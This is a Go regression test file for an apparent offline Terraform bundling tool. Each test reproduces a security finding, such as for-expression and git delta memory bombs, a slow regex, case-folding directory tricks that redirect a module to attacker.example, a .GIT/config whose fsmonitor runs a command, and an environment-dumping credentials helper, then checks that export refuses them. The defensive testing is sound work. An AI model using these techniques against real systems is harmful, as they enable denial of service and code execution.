package hostile

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airgap/airgap/dist"
	"github.com/airgap/airgap/dist/getter"
	"github.com/airgap/airgap/dist/oci"
	"github.com/airgap/airgap/dist/registrytest"
	"github.com/airgap/airgap/testdata/e2e/harness"
	"github.com/airgap/airgap/verify"
)

// exportFixture is a stand-in internet, a site key and the environment of
// an export through it.
type exportFixture struct {
	in   *registrytest.Internet
	work string
	env  []string
}

func newExportFixture(t *testing.T) *exportFixture {
	t.Helper()
	in := registrytest.New(t)
	work := t.TempDir()
	harness.MustRun(t, work, nil, harness.Bin, "keygen", "--out", "k/site", "--no-passphrase")
	return &exportFixture{in: in, work: work,
		env: append(in.Env(), "HOME="+work, "XDG_CACHE_HOME=", "TF_CLI_CONFIG_FILE="+filepath.Join(work, "none.tfrc"))}
}

// export runs 'airgap export' of manifest (written to the work directory),
// or of --from DIR when manifest starts with "--from"; it returns the
// output, the bundle's path (which must not exist on failure), the peak
// memory and the error.
func (f *exportFixture) export(t *testing.T, manifest string, extra ...string) (string, string, int64, error) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "b.bundle")
	args := []string{"export", "--sign-key", "k/site.key.asc", "--out", out, "--cache", filepath.Join(t.TempDir(), "cache"), "--platform", "linux_amd64"}
	if dir, ok := strings.CutPrefix(manifest, "--from "); ok {
		args = append(args, "--from", dir)
	} else {
		p := filepath.Join(t.TempDir(), "m.hcl")
		os.WriteFile(p, []byte(manifest), 0o644)
		args = append(args, "--manifest", p)
	}
	text, rss, err := harness.CmdRunMeasured(t, f.work, f.env, harness.Bin, append(args, extra...)...)
	if _, serr := os.Stat(out); err != nil && serr == nil {
		t.Errorf("a failed export left %s behind", out)
	}
	return text, out, rss, err
}

// forBomb is a for expression over literals, n deep: 20^n strings.
func forBomb(n int) string {
	e := `"xxxxxxxx"`
	for i := 0; i < n; i++ {
		e = "[for x in [" + strings.Repeat("0,", 19) + "0] : " + e + "]"
	}
	return e
}

// forTemplateBomb is forBomb as a string template: %{for} directives.
func forTemplateBomb(n int) string {
	e := "xxxxxxxx"
	for i := 0; i < n; i++ {
		e = "%{for x in [" + strings.Repeat("0,", 19) + "0]}" + e + "%{endfor}"
	}
	return e
}

// Finding (medium): a for expression over literals in a value airgap reads
// as a literal — here a downloaded registry module's required_providers,
// a project variable's default and its terraform.tfvars — was evaluated
// element by element: 20^5 elements took export 16 s and 530 MiB, 20^6
// would take gigabytes, from a few hundred bytes a module author or a
// project's contributor writes. So was a %{for} directive in a string of a
// .tf.json value, which HCL evaluates as a template (20^5: 25 MB in 2.6 s;
// 20^7: 10 GB). Now each is refused at its position before anything is
// evaluated.
func TestHostileExportForExpressionBomb(t *testing.T) {
	f := newExportFixture(t)
	bomb := forBomb(5)
	f.in.AddModule("registry.terraform.io", "evil", "bomb", "aws", "1.0.0", f.in.AddArchive(t, "bomb.tar.gz", map[string]string{
		"main.tf": "terraform {\n  required_providers {\n    x = { source = \"hashicorp/x\", version = " + bomb + " }\n  }\n}\n"}))
	// A registry module's variable default is shown on its docs page: the
	// docs leave the file out rather than evaluate it, and the module is
	// carried (Terraform itself evaluates such a default; only the docs
	// listing of its inputs is lost).
	f.in.AddModule("registry.terraform.io", "evil", "bombdefault", "aws", "1.0.0", f.in.AddArchive(t, "bombdefault.tar.gz", map[string]string{
		"main.tf": "variable \"v\" {\n  default = " + bomb + "\n}\n"}))
	project := func(files map[string]string) string {
		dir := t.TempDir()
		for name, body := range files {
			os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644)
		}
		return "--from " + dir
	}
	for name, tc := range map[string]struct{ manifest, want string }{
		"registry module":  {"module \"evil/bomb/aws\" {}\n", "main.tf:3:"},
		"variable default": {project(map[string]string{"main.tf": "variable \"v\" {\n  const = true\n  default = " + bomb + "\n}\nmodule \"m\" {\n  source = var.v\n}\n"}), "main.tf:3:"},
		"tfvars": {project(map[string]string{"main.tf": "variable \"v\" {\n  const = true\n}\nmodule \"m\" {\n  source = var.v\n}\n",
			"terraform.tfvars": "v = " + bomb + "\n"}), "terraform.tfvars:1:"},
		"tf.json template": {project(map[string]string{"main.tf.json": `{"locals": {"x": ["` + forTemplateBomb(5) + `"]}, "module": {"m": {"source": "./m${local.x[0]}"}}}`}),
			"for expressions and splats are not evaluated"},
	} {
		t.Run(name, func(t *testing.T) {
			out, _, rss, err := f.export(t, tc.manifest)
			t.Logf("peak %d MiB: %s", rss>>10, out)
			if err == nil || !strings.Contains(out, "for expression") || !strings.Contains(out, tc.want) {
				t.Errorf("export did not refuse the for expression at %s (err %v)", tc.want, err)
			}
			if rss > 256<<10 {
				t.Errorf("export reached %d MiB of resident memory", rss>>10)
			}
		})
	}
	t.Run("module variable default", func(t *testing.T) {
		out, _, rss, err := f.export(t, "module \"evil/bombdefault/aws\" {}\n")
		t.Logf("peak %d MiB: %s", rss>>10, out)
		if err != nil {
			t.Errorf("export refused a module whose variable default is a for expression: %v", err)
		}
		if rss > 256<<10 {
			t.Errorf("export reached %d MiB of resident memory (the docs evaluated the default)", rss>>10)
		}
	})
}

// Finding (medium): a git repository of a few KB whose pack holds a delta
// that describes a 2 GiB blob. git resolves every delta while it clones,
// before airgap's tree check can see the blob, and allocated all of it: 2
// GiB of resident memory for the one object, and a larger one, or several
// resolved at once, exhausts the exporting machine. git now runs with
// GIT_ALLOC_LIMIT (513 MiB) and resolves deltas on one thread; the export
// fails at once, naming the limit.
func TestHostileExportGitDeltaBomb(t *testing.T) {
	f := newExportFixture(t)
	u := f.in.AddDeltaBomb(t, "evil/bomb", 2<<30)
	f.in.AddModule("registry.terraform.io", "evil", "gitbomb", "aws", "1.0.0", "git::"+u)
	for name, manifest := range map[string]string{
		"registry module": "module \"evil/gitbomb/aws\" {}\n",
		"site module":     "module \"site.example/net/bomb/aws\" {\n  source   = \"git::" + u + "\"\n  versions = [\"1.0.0\"]\n  ref      = \"main\"\n}\n",
	} {
		t.Run(name, func(t *testing.T) {
			out, _, rss, err := f.export(t, manifest)
			t.Logf("peak %d MiB: %s", rss>>10, out)
			if err == nil || !strings.Contains(out, fmt.Sprintf("takes more than %d bytes to unpack", getter.MaxGitAllocation)) {
				t.Errorf("export did not stop git at the allocation limit (err %v)", err)
			}
			if rss > 256<<10 {
				t.Errorf("export (or the git it ran) reached %d MiB of resident memory", rss>>10)
			}
		})
	}
}

// Findings (medium, low) on names that fold: a module archive holding
// "modules/infra" (the directory main.tf calls) and "modules/ınfra" with a
// dotless i — one directory on Windows, whose NTFS upcases "ı" to "I" —
// was exported with only the good call read, while on an engineer's
// Windows machine the override.tf of the other merges in and switches the
// call's source; Cherokee letters in either case passed the same way
// (x/text's folding swaps them). And a ".GIT" directory (".git" in upper
// case, or ".gıt") was carried into the bundle: on macOS and Windows it is
// the installed module's git directory, whose config git runs
// (core.fsmonitor) on the first "git status" there.
func TestHostileExportNamesThatFold(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	f.in.AddModule("registry.terraform.io", "evil", "dotless", "aws", "1.0.0", f.in.AddArchive(t, "dotless.tar.gz", map[string]string{
		"main.tf":                        "module \"infra\" {\n  source = \"./modules/infra\"\n}\n",
		"modules/infra/main.tf":          "# the reviewed module\n",
		"modules/\u0131nfra/override.tf": "module \"x\" {\n  source = \"git::https://attacker.example/evil.git\"\n}\n"}))
	f.in.AddModule("registry.terraform.io", "evil", "cherokee", "aws", "1.0.0", f.in.AddArchive(t, "cherokee.tar.gz", map[string]string{
		"\u13cc.tf": "# one\n", "\uab9c.tf": "# two\n"}))
	f.in.AddModule("registry.terraform.io", "evil", "dotgit", "aws", "1.0.0", f.in.AddArchive(t, "dotgit.tar.gz", map[string]string{
		"main.tf": "# ok\n", ".GIT/config": "[core]\n\tfsmonitor = touch /tmp/owned-by-airgap-test\n", ".GIT/HEAD": "ref: refs/heads/main\n",
		"sub/.g\u0131t/config": "[core]\n\tfsmonitor = touch /tmp/owned-by-airgap-test\n"}))
	for _, m := range []string{"evil/dotless/aws", "evil/cherokee/aws"} {
		t.Run(m, func(t *testing.T) {
			out, _, _, err := f.export(t, "module \""+m+"\" {}\n")
			if err == nil || !strings.Contains(out, "are one entry on some file systems") {
				t.Errorf("export carried names that are one file on Windows or macOS (err %v):\n%s", err, out)
			}
		})
	}
	t.Run("evil/dotgit/aws", func(t *testing.T) {
		cache := t.TempDir() // a later --cache wins
		out, _, _, err := f.export(t, "module \"evil/dotgit/aws\" {}\n", "--cache", cache)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if gzContains(t, cache, "fsmonitor") || !gzContains(t, cache, "# ok") {
			t.Errorf("the module's archive carries a .git directory spelled otherwise (or lacks main.tf)")
		}
	})
}

// Finding (low): const evaluation was bounded in bytes, not in time. A
// function whose result is one number can take 0.6 s (a regular
// expression of 3,000 states over 30 KB), and a project can call it from
// as many locals as its files hold: 60 locals kept export busy 36 s, a
// 4 MiB file of them would take hours. Evaluation now stops after 10 s
// with an error at the module call.
func TestHostileExportConstEvalTime(t *testing.T) {
	f := newExportFixture(t)
	var b strings.Builder
	b.WriteString("locals {\n  s = \"" + strings.Repeat("ab", 15000) + "\"\n  p = \"(?:[ab]*a){1000}c\"\n")
	const n = 60
	for i := 0; i < n; i++ {
		b.WriteString(fmt.Sprintf("  l%d = length(regexall(local.p, local.s))\n", i))
	}
	b.WriteString("  all = \"")
	for i := 0; i < n; i++ {
		b.WriteString(fmt.Sprintf("${local.l%d}", i))
	}
	b.WriteString("\"\n}\nmodule \"m\" {\n  source = \"./x${local.all}\"\n}\n")
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.tf"), []byte(b.String()), 0o644)
	start := time.Now()
	out, _, _, err := f.export(t, "--from "+dir)
	d := time.Since(start)
	if err == nil || !strings.Contains(out, "took more than 10s") || !strings.Contains(out, "main.tf:") {
		t.Errorf("export did not stop evaluating at its time limit (err %v):\n%s", err, out)
	}
	if d > 30*time.Second {
		t.Errorf("export evaluated for %v", d)
	}
}

// Finding (medium): what modules call was followed without bound. A
// registry (or a proxy, or a module author) answering each module with one
// that calls another kept export fetching, and filling the cache, for as
// long as it liked: a chain of 40 made-up modules was exported whole. And
// one module's required_providers could add any number of providers, each
// fetched for every platform. Now a chain ends at 32 modules deep, and
// modules may add at most 2,000 module versions and 1,000 providers.
func TestHostileExportDependencyBounds(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	const chain = 40
	for i := 0; i < chain; i++ {
		f.in.AddModule("registry.terraform.io", "evil", fmt.Sprintf("m%d", i), "aws", "1.0.0",
			f.in.AddArchive(t, fmt.Sprintf("m%d.tar.gz", i), map[string]string{
				"main.tf": fmt.Sprintf("module \"next\" {\n  source  = \"evil/m%d/aws\"\n  version = \"1.0.0\"\n}\n", i+1)}))
	}
	var req strings.Builder
	req.WriteString("terraform {\n  required_providers {\n")
	for i := 0; i < 1001; i++ {
		fmt.Fprintf(&req, "    p%d = { source = \"evil/p%d\" }\n", i, i)
	}
	req.WriteString("  }\n}\n")
	f.in.AddModule("registry.terraform.io", "evil", "many", "aws", "1.0.0", f.in.AddArchive(t, "many.tar.gz", map[string]string{"main.tf": req.String()}))
	for name, tc := range map[string]struct{ module, want string }{
		"chain":     {"evil/m0/aws", "modules calling modules more than 32 deep"},
		"providers": {"evil/many/aws", "modules require more than 1000 providers"},
	} {
		t.Run(name, func(t *testing.T) {
			out, _, _, err := f.export(t, "module \""+tc.module+"\" {}\n")
			if err == nil || !strings.Contains(out, tc.want) {
				t.Errorf("export followed the modules' calls without bound (err %v):\n%s", err, lastLines(out, 5))
			}
		})
	}
}

// lastLines is the end of a long output, for messages.
func lastLines(s string, n int) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

// Finding (low): the programs export starts inherited its whole
// environment, the signing key's passphrase included: a credentials helper
// (asked for every registry host a module names) and git (with the user's
// git configuration: credential helpers, ssh, ProxyCommand) got
// AIRGAP_PASSPHRASE. Now they get the environment without airgap's own
// secrets (dist.ChildEnv).
func TestHostileExportChildrenGetNoSecrets(t *testing.T) {
	t.Parallel()
	for _, s := range []string{verify.PassphraseEnv, oci.PasswordEnv} {
		if !slices.Contains(dist.SecretEnv, s) {
			t.Errorf("dist.SecretEnv lacks %s", s)
		}
	}
	f := newExportFixture(t)
	const pass = "correct horse battery staple"
	harness.MustRun(t, f.work, []string{"AIRGAP_PASSPHRASE=" + pass}, harness.Bin, "keygen", "--out", "k/locked")
	f.in.AddGitRepo(t, "example/net", "v1.0.0", map[string]string{"main.tf": "# net\n"})
	f.in.AddModule("registry.terraform.io", "example", "net", "aws", "1.0.0", "git::https://github.com/example/net.git?ref=v1.0.0")
	plugins := filepath.Join(f.work, ".terraform.d", "plugins")
	os.MkdirAll(plugins, 0o755)
	os.WriteFile(filepath.Join(plugins, "terraform-credentials-dump"), []byte("#!/bin/sh\nenv >> \"$HOME/helper.env\"\nprintf '{}'\n"), 0o755)
	rc := filepath.Join(f.work, "dump.tfrc")
	os.WriteFile(rc, []byte("credentials_helper \"dump\" {}\n"), 0o644)
	manifest := filepath.Join(f.work, "m.hcl")
	os.WriteFile(manifest, []byte("module \"example/net/aws\" {}\n"), 0o644)
	out, err := harness.CmdRun(t, f.work, append(f.env, "AIRGAP_PASSPHRASE="+pass, "TF_CLI_CONFIG_FILE="+rc), harness.Bin, "export", "--manifest", manifest,
		"--sign-key", "k/locked.key.asc", "--out", filepath.Join(t.TempDir(), "b.bundle"), "--cache", t.TempDir())
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	dump, err := os.ReadFile(filepath.Join(f.work, "helper.env"))
	if err != nil || !strings.Contains(string(dump), "HOME=") {
		t.Fatalf("the credentials helper was not run: %v", err)
	}
	if strings.Contains(string(dump), pass) {
		t.Errorf("the credentials helper got the signing key's passphrase")
	}
}

// Finding (low): a site module's source with credentials in it
// ("git::https://deploy:TOKEN@git.site.example/…", as many write for a
// deploy token) was recorded in the bundle as it is, and shown by verify,
// by inventory and on the catalog page of the offline appliance, to every
// engineer there. The source is fetched as written and recorded, logged
// and shown without its user information.
func TestHostileExportSourceCredentialsNotRecorded(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	f.in.AddGitRepo(t, "example/net", "v1.0.0", map[string]string{"main.tf": "module \"sub\" {\n  source = \"git::https://deploy:SUB-TOKEN@github.com/example/sub.git?ref=v1.0.0\"\n}\n"})
	f.in.AddGitRepo(t, "example/sub", "v1.0.0", map[string]string{"main.tf": "# sub\n"})
	manifest := "module \"site.example/net/vpc/aws\" {\n  source   = \"git::https://deploy:SECRET-TOKEN@github.com/example/net.git\"\n  versions = [\"1.0.0\"]\n}\n"
	out, bundle, _, err := f.export(t, manifest)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	store := filepath.Join(t.TempDir(), "store")
	harness.MustRun(t, f.work, nil, harness.Bin, "import", "--store", store, "--keyring", "k/site.pub.asc", bundle)
	for what, text := range map[string]string{
		"export":    out,
		"verify":    harness.MustRun(t, f.work, nil, harness.Bin, "verify", "--keyring", "k/site.pub.asc", bundle),
		"inventory": harness.MustRun(t, f.work, nil, harness.Bin, "inventory", "--store", store, "--json"),
	} {
		if strings.Contains(text, "TOKEN") {
			t.Errorf("%s shows a credential of a module source:\n%s", what, text)
		}
		if !strings.Contains(text, "github.com/example/net.git") {
			t.Errorf("%s does not show the module's source:\n%s", what, text)
		}
	}
}

// Finding (low): a killed export left its unchecked downloads in the
// cache's tmp/ for good (a network mirror's package with an h1: hash only
// is downloaded there whole, up to --max-package-size, before it can be
// checked); nothing removed them. The next export removes those untouched
// for an hour.
func TestHostileExportRemovesAbandonedTmp(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	f.in.AddModule("registry.terraform.io", "example", "tiny", "aws", "1.0.0", f.in.AddArchive(t, "tiny.tar.gz", map[string]string{"main.tf": "# tiny\n"}))
	cache := t.TempDir()
	stale := filepath.Join(cache, "tmp", "0123456789abcdef")
	os.MkdirAll(filepath.Dir(stale), 0o755)
	os.WriteFile(stale, make([]byte, 1<<20), 0o644)
	old := time.Now().Add(-2 * time.Hour)
	os.Chtimes(stale, old, old)
	if out, _, _, err := f.export(t, "module \"example/tiny/aws\" {}\n", "--cache", cache); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if _, err := os.Stat(stale); !os.IsNotExist(err) {
		t.Errorf("an abandoned download in the cache's tmp/ is still there (%v)", err)
	}
}

// Finding (low): the download cache was trusted by name. Downloads are
// admitted without fsync, so a crash or power loss can leave an entry
// empty or cut short under its digest; every later export then took it
// as it was and failed — the provider's zip unreadable, the module's zip
// cut off — the same way each time, with nothing saying the cache was at
// fault. A cached package that does not match its digest is now fetched
// again (an empty one is hashed before use, one of the right size while it
// is written: TestHostileExportFlippedByteInCache), and a module archive,
// zip or document made afresh replaces the cache's copy.
func TestHostileExportDamagedCache(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	f.in.AddProvider(t, "registry.terraform.io", "hashicorp", "random", "3.6.2", []string{"linux_amd64"}, 4096)
	f.in.AddModule("registry.terraform.io", "example", "tiny", "aws", "1.0.0", f.in.AddArchive(t, "tiny.tar.gz", map[string]string{"main.tf": "# tiny\n"}))
	manifest := "provider \"hashicorp/random\" {\n  versions = \"3.6.2\"\n}\nmodule \"example/tiny/aws\" {}\n"
	cache := t.TempDir()
	if out, _, _, err := f.export(t, manifest, "--cache", cache); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	blobs, _ := filepath.Glob(filepath.Join(cache, "blobs", "sha256", "*"))
	if len(blobs) < 4 {
		t.Fatalf("the cache holds %d blobs", len(blobs))
	}
	for _, b := range blobs { // what a crash before the data reached the disk leaves
		os.Chmod(b, 0o644)
		os.Truncate(b, 0)
	}
	out, bundle, _, err := f.export(t, manifest, "--cache", cache)
	if err != nil {
		t.Fatalf("an export over a damaged cache failed: %v\n%s", err, out)
	}
	harness.MustRun(t, f.work, nil, harness.Bin, "verify", "--keyring", "k/site.pub.asc", bundle)
}

// A warm export takes a cached package it has already scanned by its name
// and hashes its bytes once, while copying them into the bundle. A flipped
// byte in such an entry (same size, so nothing but the hash can see it)
// must be caught by that hash: the entry removed, nothing written, and
// the export run again checking every cached package, ending with a
// bundle that verifies and a cache entry that matches its name again.
// Without the hash at write time the bundle would carry the flipped byte
// and verify would refuse it.
func TestHostileExportFlippedByteInCache(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	f.in.AddProvider(t, "registry.terraform.io", "hashicorp", "random", "3.6.2", []string{"linux_amd64"}, 64<<10)
	manifest := "provider \"hashicorp/random\" {\n  versions = \"3.6.2\"\n}\n"
	cache := t.TempDir()
	if out, _, _, err := f.export(t, manifest, "--cache", cache); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	scanned, _ := filepath.Glob(filepath.Join(cache, "h1", "*"))
	if len(scanned) != 1 {
		t.Fatalf("the cache kept the scan of %d packages, want 1", len(scanned))
	}
	pkg := filepath.Join(cache, "blobs", "sha256", filepath.Base(scanned[0]))
	b, err := os.ReadFile(pkg)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 0x01
	os.Chmod(pkg, 0o644)
	if err := os.WriteFile(pkg, b, 0o644); err != nil {
		t.Fatal(err)
	}
	out, bundle, _, err := f.export(t, manifest, "--cache", cache)
	if err != nil {
		t.Fatalf("an export over a flipped byte in the cache failed: %v\n%s", err, out)
	}
	if !strings.Contains(out, "does not match its digest") || !strings.Contains(out, "exporting again") {
		t.Errorf("the export did not say that it found the damaged cache entry:\n%s", out)
	}
	if vout, err := harness.CmdRun(t, f.work, nil, harness.Bin, "verify", "--keyring", "k/site.pub.asc", bundle); err != nil {
		t.Errorf("the bundle written over a flipped byte in the cache does not verify: %v\n%s", err, vout)
	}
	if got, err := os.ReadFile(pkg); err != nil || fmt.Sprintf("%x", sha256.Sum256(got)) != filepath.Base(pkg) {
		t.Errorf("the cache entry does not match its name after the export (%v)", err)
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(bundle), ".*partial*")); len(left) != 0 {
		t.Errorf("the export left %v behind", left)
	}
}

// Finding (low): a project's main.tf, terraform.tfvars or lock file that
// is a named pipe (mkfifo needs no privilege; a project unpacked from a
// contributor's tarball can hold one) made 'export --from' wait for a
// writer for ever. It is refused at once as not a regular file.
func TestHostileExportNamedPipeInProject(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.tf"), []byte("terraform {\n  required_providers {\n    random = { source = \"hashicorp/random\" }\n  }\n}\n"), 0o644)
	if err := syscall.Mkfifo(filepath.Join(dir, ".terraform.lock.hcl"), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, harness.Bin, "export", "--from", dir, "--sign-key", "k/site.key.asc", "--out", filepath.Join(t.TempDir(), "b.bundle"), "--cache", t.TempDir())
	cmd.Dir, cmd.Env = f.work, append(harness.BaseEnv(), f.env...)
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("export --from waited on a named pipe for 30 s")
	}
	if err == nil || !strings.Contains(string(out), "not a regular file: it is a named pipe") {
		t.Errorf("export did not refuse the named pipe (err %v):\n%s", err, out)
	}
}
